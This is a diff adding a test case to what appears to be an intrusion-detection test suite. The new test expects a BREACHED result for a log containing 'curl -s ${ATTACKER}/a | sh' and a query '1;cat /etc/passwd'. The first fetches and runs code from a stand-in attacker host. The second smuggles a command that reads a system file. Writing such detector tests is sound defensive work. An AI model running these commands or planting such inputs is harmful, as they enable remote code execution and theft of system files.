@@ -140,3 +140,13 @@ test('commands beside it, be they thousands, hide none', async () => {
   const others = Array.from({ length: 1500 }, (_, at) => ran(['stat', `/srv/f${at}`], '/usr/bin/stat', -50 + at / 15));
   expect(await told(query, [...others, ran(FETCH.split(' '), '/usr/bin/wget', 20)].join('\n'))).toMatchObject(BREACHED);
 });
+
+test('who was blocked and looked up before may get in later', async () => {
+  const before = [
+    ran(['iptables', '-I', 'INPUT', '-s', ATTACKER, '-j', 'DROP'], '/usr/sbin/iptables', -4000),
+    ran(['whois', ATTACKER], '/usr/bin/whois', -3900),
+  ];
+  const fetches = ran(['sh', '-c', `curl -s ${ATTACKER}/a | sh`], '/usr/bin/dash');
+  const probe = encodeURIComponent('1;cat /etc/passwd');
+  expect(await told(probe, [...before, fetches].join('\n'))).toMatchObject(BREACHED);
+});
